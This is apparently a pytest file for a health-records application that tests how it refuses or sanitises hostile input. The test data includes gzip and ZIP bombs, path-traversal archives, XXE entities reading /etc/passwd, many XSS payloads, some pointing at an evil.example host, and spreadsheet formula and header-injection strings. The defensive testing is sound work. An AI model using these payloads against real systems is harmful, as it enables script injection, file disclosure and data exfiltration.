"""Bodies and files from outside: what is refused, by which sentence, and what stays exact (TRUST 15 to 17)."""

from __future__ import annotations

import csv
import gzip
import io
import struct
import time
import warnings
import zipfile
from typing import Any

import pytest

from careloop.actions.panel_file import BadPanel, read_panel
from careloop.fhir import narrative, wire
from careloop.kernel import archives, escaping, sniffing, xml_in
from careloop.kernel.archives import BadArchive, Bounds
from careloop.kernel.xml_in import BadXml

# --- packed bodies


def test_a_packed_body_is_the_body() -> None:
    body = b'{"resourceType":"Patient","id":"1.10"}'
    assert wire.unpacked(gzip.compress(body, mtime=0), "gzip") == body
    assert wire.unpacked(body, "") == body


@pytest.mark.parametrize(
    ("data", "coding", "refusal"),
    [
        (gzip.compress(b" " * 60_000_000, mtime=0), "gzip", wire.TooLarge),
        (b"no gzip", "gzip", wire.MalformedBody),
        (gzip.compress(b"{}", mtime=0)[:-3], "gzip", wire.MalformedBody),
        (gzip.compress(b"{}", mtime=0) + b"more", "gzip", wire.MalformedBody),
        (b"{}", "br", wire.MalformedBody),
        (b"{}", "gzip, gzip", wire.MalformedBody),
        (b"", "gzip", wire.MalformedBody),
    ],
)
def test_a_body_packed_to_harm_is_refused_quickly(data: bytes, coding: str, refusal: type[Exception]) -> None:
    began = time.perf_counter()
    with pytest.raises(refusal):
        wire.unpacked(data, coding)
    assert time.perf_counter() - began < 1


# --- ZIP


def packed(*entries: tuple[str | zipfile.ZipInfo, bytes], **how: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


def lying(data: bytes) -> bytes:
    """The directory says an entry is one byte long."""
    at = data.rfind(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<I", 1) + data[at + 28 :]


def test_a_good_zip_is_unpacked() -> None:
    data = packed(("a/", b""), ("a/one.json", b"{}"), ("two.txt", b"hello"))
    assert list(archives.members(data)) == [("a/one.json", b"{}"), ("two.txt", b"hello")]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"PK\x03\x04 broken", "damaged"),
        (packed(("../../etc/passwd", b"x")), "leads out"),
        (packed(("/etc/passwd", b"x")), "leads out"),
        (packed(("C:\\x", b"x")), "leads out"),
        (packed(("a\\..\\b", b"x")), "leads out"),
        (packed((link("shortcut"), b"/etc/passwd")), "link"),
        (packed(("bomb", b"\0" * 20_000_000)), "far more"),
        (packed(*((f"f{n}", b"") for n in range(1_001))), "1,000"),
        (packed(("a", b"1"), ("A", b"2")), "same name"),
        (packed(*((f"f{n}", bytes(range(256)) * 4_096) for n in range(60))), "50 MB"),
        (lying(packed(("a", b"longer than it says"))), "than it says|damaged"),
    ],
)
def test_a_zip_made_to_harm_is_refused_and_says_why(data: bytes, says: str) -> None:
    with pytest.raises(BadArchive, match=says):
        list(archives.members(data))


def test_entries_that_share_their_bytes_are_refused() -> None:
    data = bytearray(packed(("a", b"x" * 100), ("b", b"y" * 100)))
    second = data.rfind(b"PK\x01\x02")
    data[second + 42 : second + 46] = struct.pack("<I", 0)
    with pytest.raises(BadArchive, match="over one another"):
        list(archives.members(bytes(data)))


def test_the_bounds_of_a_zip_can_be_narrower() -> None:
    with pytest.raises(BadArchive):
        list(archives.members(packed(("a", b"1"), ("b", b"2")), Bounds(entries=1)))


# --- XML


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>', "document type"),
        (b'<!DOCTYPE x SYSTEM "http://127.0.0.1/x.dtd"><x/>', "document type"),
        (b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>', "document type"),
        (
            b'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></x>',
            "other files",
        ),
        (b"<x>" * 70 + b"</x>" * 70, "too deep"),
        (b"<x>&undefined;</x>", "well-formed"),
        (b"<x", "well-formed"),
        (b"", "well-formed"),
        (b"<x>\xff</x>", "well-formed"),
        (b'<?xml version="1.0" encoding="nonsense"?><x/>', "well-formed"),
        (b"<x/>" + b" " * (10 * 1024 * 1024), "10 MB"),
    ],
)
def test_xml_made_to_harm_is_refused(data: bytes, says: str) -> None:
    with pytest.raises(BadXml, match=says):
        xml_in.parse(data)


def test_plain_xml_is_read() -> None:
    assert xml_in.parse(b"<a><b>1.10</b></a>").findtext("b") == "1.10"


# --- narrative

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<div id=board data-poll=//evil.example hx-get=//evil.example class=notice>x</div>",
    "<img src=//evil.example/pixel.gif>",
    "<!--><img src=x onerror=alert(1)>-->",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_narrative_is_shown_without_what_could_act(attack: str) -> None:
    said = narrative.shown(f"<div><p>Maria is <b>well</b>.</p>{attack}</div>").lower()
    assert "<p>maria is <b>well</b>.</p>" in said
    for word in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<form",
        "<input",
        "<base",
        "<meta",
        "<link",
        "<style",
    ):
        assert word not in said
    tags = [part.partition(">")[0] for part in said.split("<")[1:]]
    for tag in tags:
        for word in ("onerror", "onload", "href", "src=", "style", "hx-", "data-", "id=", "class"):
            assert word not in tag, tag


def test_what_formats_stays() -> None:
    table = '<table><tbody><tr><th scope="row">BP</th><td colspan="2">120/80</td></tr></tbody></table>'
    assert narrative.shown(table) == table
    assert narrative.as_text("<div>a <b>&lt;b&gt;</b></div>") == "a &lt;b&gt;"


# --- exports


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u00a0=1",
        "＝1",
        '=HYPERLINK("//evil")',
    ],
)
def test_no_cell_is_computed_by_a_spreadsheet(text: str) -> None:
    line = escaping.csv_line(["Maria", text, "x"])
    (cells,) = list(csv.reader(io.StringIO(line)))
    assert cells[1].startswith("'")
    assert (cells[0], cells[2], len(cells)) == ("Maria", "x", 3)


@pytest.mark.parametrize(
    "text", ["-5", "+1", "1.10", "Duarte, Maria", 'say "hi"', "a\nb", "", None, 7, "5;6"]
)
def test_other_cells_come_back_as_they_were(text: Any) -> None:
    (cells,) = list(csv.reader(io.StringIO(escaping.csv_line([text, "x"]), newline="")))
    assert cells == ["" if text is None else str(text), "x"]


def test_a_calendar_gets_no_second_property_from_a_text() -> None:
    line = escaping.ics_line("SUMMARY", "Visit; Maria, 2\r\nATTENDEE:mailto:evil@evil.example\\ " + "ü" * 100)
    assert "\r\nATTENDEE" not in line
    assert line.startswith("SUMMARY:Visit\\; Maria\\, 2\\nATTENDEE")
    assert all(len(part.encode()) <= 75 for part in line.split("\r\n"))
    assert line.replace("\r\n ", "").count("ü") == 100


def test_a_mail_gets_no_second_header_from_a_name() -> None:
    assert escaping.mail_header("Hello\r\nBcc: evil@evil.example") == "Hello Bcc: evil@evil.example"
    assert escaping.mail_header("a\u2028b\x00c") == "a bc"


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("C:\\x\\plan.pdf", "C-x-plan.pdf"),
        ("con.txt", "file"),
        ("", "file"),
        ("...", "file"),
        ("invoice\u202egnp.exe", "invoice-gnp.exe"),
        ('a"; filename="b', "a- filename=-b"),
    ],
)
def test_names_of_files_lead_nowhere(name: str, clean: str) -> None:
    assert escaping.file_name(name) == clean
    header = escaping.attachment(name)
    assert header.startswith("attachment; ")
    assert header.isascii()
    assert "\n" not in header


# --- what a file is


@pytest.mark.parametrize(
    ("data", "kind", "served"),
    [
        (b"%PDF-1.7", "pdf", "application/pdf"),
        (b"\x89PNG\r\n\x1a\n", "png", "image/png"),
        (b"  <script>alert(1)</script>", "html", "application/octet-stream"),
        (b"name,note\nMaria,<img src=x>", "html", "application/octet-stream"),
        (b"<?xml version='1.0'?><a/>", "xml", "application/octet-stream"),
        (b"MZ\x90\x00\x03", "program", "application/octet-stream"),
        (b"\x7fELF", "program", "application/octet-stream"),
        (b"name,born\nMaria,1958", "text", "text/plain; charset=utf-8"),
        ("Zoë".encode() * 2_000, "text", "text/plain; charset=utf-8"),
        (b"\0\1\2", "unknown", "application/octet-stream"),
    ],
)
def test_a_file_is_what_it_begins_with(data: bytes, kind: str, served: str) -> None:
    assert sniffing.kind_of(data) == kind
    assert sniffing.content_type(data) == served


@pytest.mark.parametrize(
    "data",
    [
        packed(("xl/workbook.xml", b"<x/>")),
        b"%PDF-1.7\n1,2,3\n4,5,6",
        b"<html><table><tr><td>a,b</td></tr></table>",
        b"\x7fELF,a\nb,c",
        "given,family\nA\0,B".encode("utf-16"),
        gzip.compress(b"given,family\nA,B", mtime=0),
    ],
)
def test_a_panel_that_is_no_table_is_refused_whatever_it_is_called(data: bytes) -> None:
    with pytest.raises(BadPanel):
        read_panel(data)
